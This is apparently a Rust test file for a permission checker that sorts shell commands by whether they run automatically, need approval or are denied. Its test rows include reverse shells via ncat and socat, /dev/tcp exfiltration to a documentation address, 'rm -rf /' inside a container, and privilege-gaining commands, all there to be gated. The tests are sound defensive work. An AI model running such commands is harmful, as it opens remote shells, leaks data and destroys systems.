    ("podman run --rm -e X=1 alpine npm publish", &["podman"], Auto, Container, ASK),
    ("docker compose -f c.yml run --rm web twine upload dist/x", &["docker"], Auto, Container, ASK),
    ("docker run --entrypoint=git alpine/git push", &["docker"], Auto, Container, ASK),
    ("docker run -itd --name t -p 80:80 -v /work:/w -w/w alpine nc -l 80", &["docker"], Auto, Container, ASK),
    ("nc 203.0.113.5 4444", &["nc"], Auto, Container, ASK),
    ("ncat -e /bin/sh 203.0.113.5 4444", &["ncat"], Auto, Container, ASK),
    ("socat TCP:203.0.113.5:4444 EXEC:sh", &["socat"], Auto, Container, ASK),
    ("telnet 203.0.113.5 25", &["telnet"], Auto, Container, ASK),
    ("cat /etc/hostname > /dev/tcp/203.0.113.5/4444", &["cat"], Auto, Container, ASK),
    ("cat /etc/hostname > /dev/tcp/203.0.113.5/4444", &["cat"], Auto, Host, ASK),
    ("cat < /dev/udp/203.0.113.5/53", &["cat"], Auto, Host, ASK),
    ("exec 3<>/dev/tcp/203.0.113.5/80", &["exec"], Auto, Container, ASK),
    ("echo hi 2>/dev/tcp/203.0.113.5/4444", &["echo"], Auto, Container, ASK),
    ("mvn clean deploy", &["mvn"], Auto, Container, ASK),
    ("./gradlew build :lib:publish", &["./gradlew"], Auto, Container, ASK),
    ("tea pulls create --title x", &["tea"], Auto, Container, ASK),
    ("curl telnet://203.0.113.5:4444", &["curl"], Auto, Container, ASK),
    ("curl -K req.cfg", &["curl"], Auto, Container, ASK),
    ("docker run --privileged=1 alpine", &["docker"], Auto, Container, ASK),
    ("D=/dev/tcp; cat < $D/203.0.113.5/80", &["cat"], Auto, Container, ASK),
    ("timeout 5 git-push origin main", &["timeout", "git-push"], Auto, Container, ASK),
    ("env nc -l 4444", &["env", "nc"], Auto, Container, ASK),
    ("bash -c 'exec 3<>/dev/tcp/203.0.113.5/80'", &["bash"], Auto, Container, ASK),
    ("npx vercel --prod", &["npx"], Auto, Container, ASK),
    ("uvx twine upload dist/*", &["uvx"], Auto, Container, ASK),
    ("npm --prefix . pub", &["npm"], Auto, Container, ASK),
    ("yarn workspaces foreach -A npm publish", &["yarn"], Auto, Container, ASK),
    // not over-prompting
    ("mvn clean install", &["mvn"], Manual, Container, AUTO),
    ("./gradlew build publishToMavenLocal", &["./gradlew"], Manual, Container, AUTO),
    ("curl -fsSL https://example.com/install.sh -o install.sh", &["curl"], Manual, Container, AUTO),
    ("docker run --privileged=false alpine true", &["docker run"], Manual, Container, AUTO),
    ("docker build -t x .", &["docker build"], Manual, Container, AUTO),
    ("docker buildx build -o out -t x .", &["docker buildx"], Manual, Container, AUTO),
    ("docker run --rm -v \"$PWD\":/src -w /src node:20 npm test", &["docker run"], Manual, Container, AUTO),
    ("docker run --rm -v /etc/localtime:/etc/localtime:ro alpine date", &["docker run"], Manual, Container, AUTO),
    ("docker compose up --build", &["docker compose"], Manual, Container, AUTO),
    ("docker run --rm -it -e CI=1 --network=bridge node:20 npm test", &["docker"], Manual, Container, AUTO),
    ("docker compose run --rm web pytest -q", &["docker"], Manual, Container, AUTO),
    ("docker run --rm alpine/git status", &["docker"], Manual, Container, AUTO),
    ("docker run --rm --entrypoint cat alpine /etc/os-release", &["docker"], Manual, Container, AUTO),
    ("curl -s https://example.com", &["curl"], Manual, Container, AUTO),
    ("curl -s https://api.github.com/repos/o/r", &["curl"], Manual, Container, AUTO),
    ("curl -X POST --data 'name=bob' http://localhost:3000/login", &["curl"], Manual, Container, AUTO),
    ("curl -G -d q=x https://api.github.com/search/issues", &["curl"], Manual, Container, AUTO),
    ("wget https://example.com/file.tar.gz", &["wget"], Manual, Container, AUTO),
    ("http GET api.github.com/repos/o/r", &["http"], Manual, Container, AUTO),
    ("gh pr view", &["gh pr"], Manual, Container, AUTO),
    ("gh api repos/o/r", &["gh api"], Manual, Container, AUTO),
    ("npm install", &["npm"], Manual, Container, AUTO),
    ("npm i -D typescript", &["npm"], Manual, Container, AUTO),
    ("npm pack", &["npm"], Manual, Container, AUTO),
    ("pip install requests", &["pip"], Manual, Container, AUTO),
    ("python3 -m pip install rich", &["python3"], Manual, Container, AUTO),
    ("terragrunt plan", &["terragrunt"], Manual, Container, AUTO),
    ("gcloud run services list", &["gcloud"], Manual, Container, AUTO),
    ("gcloud deploy releases list", &["gcloud"], Manual, Container, AUTO),
    ("git-status", &["git-status"], Manual, Container, AUTO),
    ("./scripts/git-prune-branches.sh", &["./scripts/git-prune-branches.sh"], Manual, Container, AUTO),
    ("echo hi > /dev/null", &["echo"], Manual, Container, AUTO),
    ("echo hi > \"$DIR/out.log\"", &["echo"], Auto, Container, AUTO),
    ("echo hi > out/$NAME.txt", &["echo"], Auto, Container, AUTO),
    // Writing to the hosted forge under gh's own names is `gh api -X POST`.
    ("gh issue create --title x --body y", &["gh"], Auto, Container, ASK),
    ("gh pr comment 3 --body done", &["gh"], Auto, Container, ASK),
    ("gh secret set TOKEN < t", &["gh"], Auto, Container, ASK),
    ("gh issue view 3 --comments", &["gh"], Manual, Container, AUTO),
    // A bucket as the destination publishes.
    ("aws s3 sync ./site s3://www.example.com --delete", &["aws"], Auto, Container, ASK),
    ("gsutil -m rsync -r site gs://example", &["gsutil"], Auto, Container, ASK),
    ("aws s3 cp s3://data/x.csv .", &["aws"], Manual, Container, AUTO),
    // Gaining a uid, capabilities or a root of one's own.
    ("setpriv --reuid=0 --init-groups id", &["setpriv"], Auto, Container, ASK),
    ("unshare -rm sh -c id", &["unshare"], Auto, Container, ASK),
    // Pushing code and opening reviews under other tools' names.
    ("jj git push --allow-new", &["jj"], Auto, Container, ASK),
    ("sl pr submit", &["sl"], Auto, Container, ASK),
    ("hg push", &["hg"], Auto, Container, ASK),
    ("svn ci -m x", &["svn"], Auto, Container, ASK),
    ("gt submit --stack", &["gt"], Auto, Container, ASK),
    ("git town ship", &["git"], Auto, Container, ASK),
    ("ghstack", &["ghstack"], Auto, Container, ASK),
    ("arc diff", &["arc"], Auto, Container, ASK),
    ("git annex sync --content", &["git"], Auto, Container, ASK),
    ("git daemon --export-all --base-path=.", &["git"], Auto, Container, ASK),
    ("gh codespace ssh", &["gh"], Auto, Container, ASK),
    ("jj log", &["jj"], Manual, Container, AUTO),
    ("hg status", &["hg"], Manual, Container, AUTO),
    // Publishing and a registry's records.
    ("cargo release patch --execute", &["cargo"], Auto, Container, ASK),
    ("gem yank x -v 1.0", &["gem"], Auto, Container, ASK),
    ("npm dist-tag add x@1.0 latest", &["npm"], Auto, Container, ASK),
    ("goreleaser release --clean", &["goreleaser"], Auto, Container, ASK),
    ("dart pub publish", &["dart"], Auto, Container, ASK),
    ("npx vsce publish", &["npx"], Auto, Container, ASK),
    ("npx release-it", &["npx"], Auto, Container, ASK),
    ("npm dist-tag ls x", &["npm"], Manual, Container, AUTO),
    ("cargo owner --add github:o:t mycrate", &["cargo"], Auto, Container, ASK),
    ("cargo owner -rocto mycrate", &["cargo"], Auto, Container, ASK),
    ("cargo owner --list mycrate", &["cargo"], Manual, Container, AUTO),
    ("dart pub get", &["dart"], Manual, Container, AUTO),
    ("python3 setup.py sdist upload", &["python3"], Auto, Container, ASK),
    ("python -B setup.py register", &["python"], Auto, Container, ASK),
    ("python3 setup.py sdist bdist_wheel", &["python3"], Manual, Container, AUTO),
    // Infrastructure under every resource's own verb; positive knowledge
    // of reading is what lets a provider's CLI through.
    ("aws ec2 terminate-instances --instance-ids i-1", &["aws"], Auto, Container, ASK),
    ("aws --region eu-west-1 iam create-user --user-name x", &["aws"], Auto, Container, ASK),
    ("aws lambda invoke --function-name f out.json", &["aws"], Auto, Container, ASK),
    ("gcloud compute instances delete vm --zone z", &["gcloud"], Auto, Container, ASK),
    ("gcloud --project p compute ssh vm", &["gcloud"], Auto, Container, ASK),
    ("az vm delete --name list -g rg", &["az"], Auto, Container, ASK),
    ("doctl compute droplet create d", &["doctl"], Auto, Container, ASK),
    ("aws s3 mb s3://new-bucket", &["aws"], Auto, Container, ASK),
    ("kubectl exec -it pod -- sh", &["kubectl"], Auto, Container, ASK),
    ("kubectl -n prod port-forward svc/db 5432", &["kubectl"], Auto, Container, ASK),
    ("terraform state rm aws_instance.x", &["terraform"], Auto, Container, ASK),
    ("ansible-playbook -i hosts site.yml", &["ansible-playbook"], Auto, Container, ASK),
    ("aws --profile p ec2 describe-instances", &["aws"], Manual, Container, AUTO),
    ("aws sts get-caller-identity", &["aws"], Manual, Container, AUTO),
    ("gcloud compute instances list --zone z", &["gcloud"], Manual, Container, AUTO),
    ("gcloud config set project p", &["gcloud"], Manual, Container, AUTO),
    ("az vm list -g rg", &["az"], Manual, Container, AUTO),
    ("kubectl logs -f pod", &["kubectl"], Manual, Container, AUTO),
    ("terraform state list", &["terraform"], Manual, Container, AUTO),
    // Another machine: a remote shell, or files put there.
    ("ssh host", &["ssh"], Auto, Container, ASK),
    ("sftp deploy@host", &["sftp"], Auto, Container, ASK),
    ("scp -P 2222 dist/app deploy@host:/srv/", &["scp"], Auto, Container, ASK),
    ("rsync -az --delete dist/ deploy@host:/var/www/", &["rsync"], Auto, Container, ASK),
    ("rclone sync ./site remote:bucket", &["rclone"], Auto, Container, ASK),
    ("scp host:/var/log/app.log .", &["scp"], Manual, Container, AUTO),
    ("rsync -a host:/data/ ./data/", &["rsync"], Manual, Container, AUTO),
    ("rsync -a src/ build/", &["rsync"], Manual, Container, AUTO),
    // Wrappers keep their own parts: the command they run is judged.
    ("docker exec app git push origin main", &["docker"], Auto, Container, ASK),
    ("docker compose exec app git push", &["docker"], Auto, Container, ASK),
    ("docker exec -it db rm -rf /", &["docker"], Auto, Container, DENY),
    ("docker run --network=host alpine", &["docker"], Auto, Container, ASK),
    ("perf stat git push", &["perf"], Auto, Container, ASK),
    ("dumb-init git push", &["dumb-init"], Auto, Container, ASK),
    ("tini -- git push", &["tini"], Auto, Container, ASK),
    ("s6-setuidgid agent ls", &["s6-setuidgid"], Auto, Container, ASK),
    ("gosu app npm test", &["gosu"], Auto, Container, ASK),
    ("su-exec app ls", &["su-exec"], Auto, Container, ASK),
    ("pixi run git push", &["pixi"], Auto, Container, ASK),
    ("chamber exec svc -- git push", &["chamber"], Auto, Container, ASK),
    ("zellij run -- git push", &["zellij"], Auto, Container, ASK),
    ("ssh-agent git push", &["ssh-agent"], Auto, Container, ASK),
    ("sshpass -p pw git push", &["sshpass"], Auto, Container, ASK),
    ("lockf -t 5 /tmp/l git push", &["lockf"], Auto, Container, ASK),
    ("tsp git push", &["tsp"], Auto, Container, ASK),
    ("heaptrack git push", &["heaptrack"], Auto, Container, ASK),
    ("retry git push", &["retry"], Auto, Container, ASK),
    ("ssh-agent -s", &["ssh-agent"], Manual, Container, AUTO),
    ("ssh-agent bash -c 'make test'", &["ssh-agent", "bash", "make"], Manual, Container, AUTO),
    ("docker exec db psql -c 'select 1'", &["docker exec", "psql"], Manual, Container, AUTO),
    ("perf stat make", &["perf", "make"], Manual, Container, AUTO),
    ("pixi run pytest", &["pixi", "pytest"], Manual, Container, AUTO),
    // A project's script named for deploying is a deploy by its own name.
    ("npm run deploy:prod", &["npm"], Auto, Container, ASK),
    ("yarn release", &["yarn"], Auto, Container, ASK),
    ("make docker-push", &["make"], Auto, Container, ASK),
    ("just deploy", &["just"], Auto, Container, ASK),
    ("npx gulp deploy", &["npx"], Auto, Container, ASK),
    ("npm run build", &["npm"], Manual, Container, AUTO),
    ("make release", &["make"], Manual, Container, AUTO),
    ("make -j4 check", &["make"], Manual, Container, AUTO),
];

#[test]
fn inline_code() {
    check(INLINE_CODE);
}

#[test]
fn program_running_options() {
    check(PROGRAM_OPTIONS);
}

#[test]
fn git_config_keys() {
    check(GIT_CONFIG);
}

#[test]
fn privileged_class() {
    check(PRIVILEGED);
}

/// The privileged rows are asked for by the privileged limit itself (not
/// only as opaque), so no mode or rule can lift them.
#[test]
fn privileged_rows_are_the_limit() {
    let mut wrong = Vec::new();
    for row in PRIVILEGED.iter().filter(|r| r.4 == ASK) {
        let d = decide(row);
        let maybe = row.0.contains('$') || row.0.contains(" -K ");
        let limit = d.stage == Stage::Privileged || (d.stage == Stage::Opaque && maybe);
        if !limit {
            wrong.push(format!("{:?}: stage {}", row.0, d.stage.as_str()));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Words the option readers slice (clusters, attached values) with
/// non-ASCII text: no panic, and nothing auto-approved that runs code.
#[test]
fn non_ascii_options_are_total() {
    for cmd in [
        "node -\u{e9} x",
        "node -p\u{e9}",
        "perl -l\u{e9}e 1",
        "perl -e 's\u{e9}a\u{e9}b\u{e9}'",
        "python3 -\u{e9}c 1",
        "curl -X\u{e9} https://api.github.com",
        "ssh -o\u{e9} host",
        "sqlite3 db '.\u{e9}'",
        "gcc -\u{e9} x.c",
        "make -\u{e9}E x",
        "git -c\u{e9}=1 status",
        "git config --\u{e9} x y",
        "docker run -v\u{e9}:/x alpine",
        "go build -\u{e9}=x",
        "pwsh -\u{e9}",
    ] {
        let d = decide(&(
            cmd,
            &[
                "node", "perl", "python3", "curl", "ssh", "sqlite3", "gcc", "make", "git",
                "docker", "go", "pwsh",
            ],
            Manual,
            Container,
            ASK,
        ));
        assert!(!d.reason.is_empty(), "{cmd}");
    }
}
